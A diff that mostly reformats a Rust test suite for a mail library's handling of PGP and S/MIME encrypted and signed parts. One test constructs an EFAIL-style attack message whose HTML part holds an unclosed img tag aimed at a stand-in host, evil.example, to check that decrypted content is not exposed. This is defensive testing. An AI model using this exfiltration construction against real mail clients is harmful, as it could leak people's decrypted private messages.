@@ -29,7 +29,11 @@ fn inline(world: &World, to: &str, text: &str) -> String {
     let usable = world.usable(to);
     let mut binary = Vec::new();
     let key = usable.cert().keys().find(|ka| ka.key().fingerprint() == *usable.subkey()).unwrap();
-    let recipient = pgp::serialize::stream::Recipient::new(pgp::types::Features::empty(), pgp::KeyHandle::from(key.key().keyid()), key.key());
+    let recipient = pgp::serialize::stream::Recipient::new(
+        pgp::types::Features::empty(),
+        pgp::KeyHandle::from(key.key().keyid()),
+        key.key(),
+    );
     let message = pgp::serialize::stream::Message::new(&mut binary);
     let message = Encryptor::for_recipients(message, [recipient]).build().unwrap();
     let mut message = LiteralWriter::new(message).build().unwrap();
@@ -64,8 +68,12 @@ fn what_exchange_makes_of_encrypted_mail_is_opened() {
                    Content-Transfer-Encoding: base64\n\nVmVyc2lvbjogMQ==\n";
     let base64 = base64(armored.replace('\n', "\r\n").as_bytes());
     for body in [
-        format!("--x\nContent-Type: text/plain; charset=\"us-ascii\"\n\n\n{control}--x\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\n{armored}\n--x--\n"),
-        format!("--x\nContent-Type: text/plain\n\n\n{control}--x\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n{base64}\n--x--\n"),
+        format!(
+            "--x\nContent-Type: text/plain; charset=\"us-ascii\"\n\n\n{control}--x\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\n{armored}\n--x--\n"
+        ),
+        format!(
+            "--x\nContent-Type: text/plain\n\n\n{control}--x\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n{base64}\n--x--\n"
+        ),
         format!("{control}--x\nContent-Type: application/octet-stream\n\n{armored}\n--x--\n"),
     ] {
         let mangled = letter(&format!("Content-Type: multipart/mixed; boundary=\"x\"\n\n{body}"));
@@ -126,7 +134,9 @@ fn a_mailing_list_footer_beside_a_signed_or_encrypted_part_is_kept() {
 #[test]
 fn an_encrypted_part_beside_html_is_not_opened_in_place() {
     let (world, ..) = World::alice_and_bob();
-    let part = String::from_utf8(entity_bytes(&sealed(&text_letter(), &plain_seal(&[world.usable(BOB)], None)))).unwrap();
+    let part =
+        String::from_utf8(entity_bytes(&sealed(&text_letter(), &plain_seal(&[world.usable(BOB)], None))))
+            .unwrap();
     for subtype in ["mixed", "related", "alternative"] {
         let attack = letter(&format!(
             "Content-Type: multipart/{subtype}; boundary=\"e\"\n\n--e\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n\
@@ -291,7 +301,10 @@ fn words_that_look_like_armor_are_not_protection() {
 
 #[test]
 fn a_claim_of_encryption_over_clear_text_is_not_protection() {
-    for payload in ["my secret plan\n", "-----BEGIN PGP MESSAGE-----\n\nyxRiAGZpbGUAAAAAaGVsbG8=\n-----END PGP MESSAGE-----\n"] {
+    for payload in [
+        "my secret plan\n",
+        "-----BEGIN PGP MESSAGE-----\n\nyxRiAGZpbGUAAAAAaGVsbG8=\n-----END PGP MESSAGE-----\n",
+    ] {
         let message = letter(&format!(
             "Content-Type: multipart/encrypted; boundary=\"x\"; protocol=\"application/pgp-encrypted\"\n\n--x\n\
              Content-Type: application/pgp-encrypted\n\nVersion: 1\n--x\nContent-Type: application/octet-stream\n\n{payload}--x--\n"
@@ -329,7 +342,8 @@ fn smime_is_recognised_by_its_cms_content_type() {
 #[test]
 fn forms_are_told_with_their_place() {
     let (world, alice, _) = World::alice_and_bob();
-    let signed = String::from_utf8(entity_bytes(&sealed(&text_letter(), &plain_seal(&[], Some(&alice))))).unwrap();
+    let signed =
+        String::from_utf8(entity_bytes(&sealed(&text_letter(), &plain_seal(&[], Some(&alice))))).unwrap();
     let block = inline(&world, BOB, "x\n");
     let message = letter(&format!(
         "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/plain\n\n{block}\n--m\n{}\n--m--\n",
